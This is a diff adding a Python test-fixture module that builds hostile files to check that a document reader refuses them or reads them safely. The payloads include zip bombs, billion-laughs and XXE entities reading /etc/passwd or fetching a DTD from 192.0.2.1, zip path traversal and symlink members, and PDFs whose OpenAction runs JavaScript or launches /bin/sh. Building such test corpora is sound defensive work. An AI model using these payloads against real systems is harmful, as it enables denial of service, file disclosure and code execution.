@@ -1,0 +1,308 @@
+"""Bombs and traps: files built to exhaust, mislead or run something in whoever reads them."""
+
+from __future__ import annotations
+
+import io
+import json
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+
+CANARY = "/etc/passwd"
+
+_TYPES = (
+    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
+    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
+)
+_RELS = (
+    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+    'Target="word/document.xml"/></Relationships>'
+)
+_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+@dataclass(frozen=True)
+class Trap:
+    """A file and what may become of it: refused with a reason, or read with these words in it."""
+
+    name: str
+    data: bytes
+    refused: bool | None = None
+    """True: must be refused; False: must be read; None: either, as long as nothing else happens."""
+    reads: str = ""
+    never: str = ""
+    """Must not appear in the text."""
+
+
+def word(body: str, *, doctype: str = "", more: dict[str, bytes] | None = None) -> bytes:
+    """A Word file with this XML inside its body."""
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", _TYPES)
+        archive.writestr("_rels/.rels", _RELS)
+        archive.writestr(
+            "word/document.xml",
+            f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{body}</w:body></w:document>',
+        )
+        for name, data in (more or {}).items():
+            archive.writestr(name, data)
+    return target.getvalue()
+
+
+def paragraph(text: str) -> str:
+    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"
+
+
+def pdf(objects: list[str | bytes], *, trailer: str = "") -> bytes:
+    """A PDF file of these objects, numbered from 1; the first is its catalogue."""
+    data = b"%PDF-1.7\n"
+    places = []
+    for number, body in enumerate(objects, start=1):
+        places.append(len(data))
+        data += (
+            f"{number} 0 obj\n".encode()
+            + (body if isinstance(body, bytes) else body.encode())
+            + b"\nendobj\n"
+        )
+    start = len(data)
+    data += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
+    data += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
+    data += (
+        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
+    )
+    return data
+
+
+def stream(content: bytes, extra: str = "") -> bytes:
+    return f"<< /Length {len(content)} {extra} >>\nstream\n".encode() + content + b"\nendstream"
+
+
+def page(
+    content: bytes, *, catalogue: str = "", extra: str = "", more: list[str | bytes] | None = None
+) -> bytes:
+    """A PDF with one page."""
+    return pdf(
+        [
+            f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
+            f"/Resources << /Font << /F1 5 0 R >> {extra} >> >>",
+            stream(content),
+            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+            *(more or []),
+        ]
+    )
+
+
+WORDS = b"BT /F1 12 Tf 50 700 Td (Plain words of the report) Tj ET"
+LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "haha haha haha haha">' + "".join(
+    f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("abcdefgh", "bcdefghi", strict=True)
+) + "]>"  # fmt: skip
+OUTSIDE = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY}">]>'
+REMOTE = '<!DOCTYPE x [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'
+
+
+def _zeros_word() -> bytes:
+    return word(paragraph("x"), more={"word/media/image1.bin": b"\0" * (60 << 20)})
+
+
+def _many_members() -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        for number in range(10_500):
+            archive.writestr(f"word/{number}", b"")
+    return target.getvalue()
+
+
+def _overlapping() -> bytes:
+    """A bomb without nesting: many directory entries that all point at one block of packed zeros."""
+    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
+    block = packed.compress(b"\0" * (21 << 20)) + packed.flush()
+    size, crc = 21 << 20, zlib.crc32(b"\0" * (21 << 20))
+    head = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(block), size, 1, 0) + b"a" + block
+    entries = b"".join(
+        struct.pack(
+            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(block), size, 1, 0, 0, 0, 0, 0, 0
+        )
+        + b"a"
+        for _ in range(500)
+    )
+    return head + entries + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 500, 500, len(entries), len(head), 0)
+
+
+def _lying_sizes() -> bytes:
+    """Its directory says that 10 MB of zeros are 10 bytes."""
+    data = word(paragraph("x"), more={"word/a": b"\0" * (10 << 20)})
+    return data.replace(struct.pack("<I", 10 << 20), struct.pack("<I", 10))
+
+
+def _paths() -> bytes:
+    return word(
+        paragraph("Words of the memo"),
+        more={
+            "../../../../tmp/dossier-escaped": b"x",
+            "/tmp/dossier-escaped": b"x",
+            "..\\..\\dossier-escaped": b"x",
+        },
+    )
+
+
+def _link_member() -> bytes:
+    target = io.BytesIO(word(paragraph("Words of the memo")))
+    with zipfile.ZipFile(target, "a") as archive:
+        member = zipfile.ZipInfo("word/link.xml")
+        member.external_attr = 0o120777 << 16
+        archive.writestr(member, CANARY)
+    return target.getvalue()
+
+
+def _huge_image_pdf(filters: str, content: bytes) -> bytes:
+    image = stream(
+        content,
+        f"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 {filters}",
+    )
+    return page(WORDS + b" q 600 0 0 800 0 0 cm /I Do Q", extra="/XObject << /I 6 0 R >>", more=[image])
+
+
+def _flate_bomb_pdf() -> bytes:
+    packed = zlib.compress(b"BT /F1 1 Tf (words) Tj ET " * (40 << 20 >> 5), 9)
+    return pdf(
+        [
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+            stream(packed, "/Filter /FlateDecode"),
+            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+        ]
+    )
+
+
+def _nested_flate_pdf() -> bytes:
+    data = b"\0" * (60 << 20)
+    for _ in range(3):
+        data = zlib.compress(data, 9)
+    return pdf(
+        [
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
+            stream(data, "/Filter [/FlateDecode /FlateDecode /FlateDecode]"),
+        ]
+    )
+
+
+def _page_loop() -> bytes:
+    return pdf(
+        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 >>"]
+    )
+
+
+def _form_loop() -> bytes:
+    form = stream(
+        b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
+    )
+    return page(WORDS + b" /X Do", extra="/XObject << /X 6 0 R >>", more=[form])
+
+
+def _mail(head: str, body: str) -> bytes:
+    return f"From: A <a@example.org>\nSubject: A message\n{head}\n\n{body}".encode()
+
+
+def _nested_mail(depth: int) -> bytes:
+    lines = ["From: a@example.org", "Subject: deep"]
+    for number in range(depth):
+        lines += [f'Content-Type: multipart/mixed; boundary="b{number}"', "", f"--b{number}"]
+    lines += ["Content-Type: text/plain", "", "words"]
+    return "\n".join(lines).encode()
+
+
+def _messages_in_messages(depth: int) -> bytes:
+    return (b"From: a@example.org\nSubject: deep\nContent-Type: message/rfc822\n\n" * depth) + b"words"
+
+
+def _image_page(source: str) -> str:
+    return (
+        f"<html><head><title>A page</title><link rel=stylesheet href='{source}'><style>@font-face{{src:url({source})}}"
+        f"</style><base href='{source}'></head><body><article><p>Plain words of the page, enough of them to be an "
+        f"article that somebody wrote about something.</p><img src='{source}'><iframe src='{source}'></iframe>"
+        "</article></body></html>"
+    )
+
+
+def traps() -> Iterator[Trap]:
+    """All of them; large ones are made when their turn comes."""
+    for make in _TRAPS:
+        yield make()
+
+
+_TRAPS: tuple[Callable[[], Trap], ...] = (
+    # Archives
+    lambda: Trap("zeros.docx", _zeros_word(), True),
+    lambda: Trap("many-members.docx", _many_members(), True),
+    lambda: Trap("overlapping.docx", _overlapping(), True),
+    lambda: Trap("lying-sizes.docx", _lying_sizes(), True),
+    lambda: Trap("paths.docx", _paths(), None),
+    lambda: Trap("link.docx", _link_member(), None, never="root:"),
+    lambda: Trap("nested.docx", word(paragraph("Words of the memo"), more={"a.zip": word("", more={"b.zip": word("")})}), False, "Words of the memo"),
+    lambda: Trap("cut.docx", word(paragraph("x"))[:-30], True),
+    lambda: Trap("empty.docx", b"", True),
+    lambda: Trap("no-archive.docx", b"PK\3\4" + b"x" * 100, True),
+    lambda: Trap("encrypted-flag.docx", word(paragraph("x")).replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"), True),
+    # XML
+    lambda: Trap("laughs.docx", word(paragraph("&i;"), doctype=LAUGHS), True),
+    lambda: Trap("outside.docx", word(paragraph("&x;"), doctype=OUTSIDE), True, never="root:"),
+    lambda: Trap("remote.docx", word(paragraph("x"), doctype=REMOTE), True),
+    lambda: Trap("late-doctype.docx", word(paragraph("&x;"), doctype="<!--" + " " * 9000 + "-->" + OUTSIDE), True, never="root:"),
+    lambda: Trap("utf16-doctype.docx", word("", more={"word/footnotes.xml": ("<?xml version='1.0' encoding='utf-16'?>" + LAUGHS + "<x>&i;</x>").encode("utf-16")}), None),
+    lambda: Trap("deep.docx", word("<w:p>" * 100_000 + "</w:p>" * 100_000), True),
+    lambda: Trap("outside-template.docx", word(paragraph("Words of the memo"), more={"word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'}), False, "Words of the memo"),
+    lambda: Trap("laughs.html", (LAUGHS + "<html><body><p>&i; and plain words of the page</p></body></html>").encode(), None, never="haha haha haha haha haha haha haha haha"),
+    lambda: Trap("outside.html", (OUTSIDE + "<html><body><p>&x; and plain words of the page</p></body></html>").encode(), None, never="root:"),
+    # Web pages
+    lambda: Trap("deep.html", b"<div>" * 200_000 + b"words", True),
+    lambda: Trap("deep-json.html", b"<html><head><script type='application/ld+json'>" + b"[" * 100_000 + b"</script></head><body><p>Plain words of the page, enough to be read.</p></body></html>", False, "Plain words"),
+    lambda: Trap("deep-json-objects.html", ("<html><head><script type='application/ld+json'>" + '{"a":' * 100_000 + "</script></head><body><p>Plain words of the page, enough to be read.</p></body></html>").encode(), False, "Plain words"),
+    lambda: Trap("remote.html", _image_page("http://192.0.2.1/x").encode(), False, "Plain words"),
+    lambda: Trap("local.html", _image_page(f"file://{CANARY}").encode(), False, "Plain words", never="root:"),
+    lambda: Trap("attributes.html", b"<p " + b"a=1 " * 500_000 + b">Plain words of the page, enough to be read.</p>", None),
+    lambda: Trap("unclosed.html", b"<a <b <c " * 200_000, None),
+    lambda: Trap("entities.html", b"<p>" + b"&amp" * 1_000_000 + b"</p>", None),
+    lambda: Trap("charset.html", b"<meta charset=zlib_codec><p>Plain words of the page, enough to be read.</p>", False, "Plain words"),
+    lambda: Trap("charset-idna.html", b"<meta charset=idna><p>" + b"words " * 50_000 + b"</p>", None),
+    # Text
+    lambda: Trap("line.txt", b"word " * (10 << 20), None),
+    lambda: Trap("one-word.txt", b"x" * (50 << 20), None),
+    lambda: Trap("marks.txt", ("a" + "\u0301" * 2_000_000).encode(), None),
+    lambda: Trap("nonsense.txt", bytes(range(256)) * 4_000, None),
+    lambda: Trap("zeros.txt", b"\0" * (20 << 20), True),
+    lambda: Trap("directions.txt", ("\u202e\u2066\u202b words of a text " * 20_000).encode(), None),
+    lambda: Trap("brackets.md", b"[" * 300_000 + b"(" * 300_000 + b" words", None),
+    lambda: Trap("quotes.md", b">" * 300_000 + b" words", None),
+    # PDF
+    lambda: Trap("script.pdf", page(WORDS, catalogue="/OpenAction << /S /JavaScript /JS (app.launchURL('http://192.0.2.1')) >>"), False, "Plain words"),
+    lambda: Trap("launch.pdf", page(WORDS, catalogue="/OpenAction << /S /Launch /F (/bin/sh) >>"), False, "Plain words"),
+    lambda: Trap("remote.pdf", page(WORDS, catalogue="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"), False, "Plain words"),
+    lambda: Trap("flate-bomb.pdf", _flate_bomb_pdf(), None),
+    lambda: Trap("nested-flate.pdf", _nested_flate_pdf(), True),
+    lambda: Trap("huge-image.pdf", _huge_image_pdf("", b"\0" * 100), False, "Plain words"),
+    lambda: Trap("huge-image-packed.pdf", _huge_image_pdf("/Filter /FlateDecode", zlib.compress(b"\0" * (50 << 20), 9)), False, "Plain words"),
+    lambda: Trap("huge-page.pdf", page(WORDS).replace(b"600 800", b"9e9 9e9"), None),
+    lambda: Trap("page-loop.pdf", _page_loop(), True),
+    lambda: Trap("form-loop.pdf", _form_loop(), None),
+    lambda: Trap("deep-array.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /X " + "[" * 200_000 + "]" * 200_000 + " >>", "<< /Type /Pages /Kids [] /Count 0 >>"]), True),
+    lambda: Trap("locked.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"], trailer="/Encrypt << /Filter /Standard /V 9 >>"), True),
+    # Mail
+    lambda: Trap("deep.eml", _nested_mail(5_000), None),
+    lambda: Trap("messages.eml", _messages_in_messages(5_000), None),
+    lambda: Trap("many-parts.eml", _mail('Content-Type: multipart/mixed; boundary="b"', "--b\n\nx\n" * 20_000), True),
+    lambda: Trap("charset.eml", _mail("Content-Type: text/plain; charset=zlib_codec", "Plain words of the mail"), False, "Plain words"),
+    lambda: Trap("header.eml", ("Subject: " + "=?utf-8?b?" * 50_000 + "\nFrom: " + "(" * 100_000 + "\n\nPlain words").encode(), None),
+    lambda: Trap("addresses.eml", ("From: " + "<a@b>," * 50_000 + "\nSubject: x\n\nPlain words of the mail").encode(), None),
+    lambda: Trap("page.eml", _mail("Content-Type: text/html", _image_page("http://192.0.2.1/x")), False, "Plain words"),
+    lambda: Trap("date.eml", _mail("Date: " + json.dumps("9" * 5_000), "Plain words of the mail"), False, "Plain words"),
+)  # fmt: skip
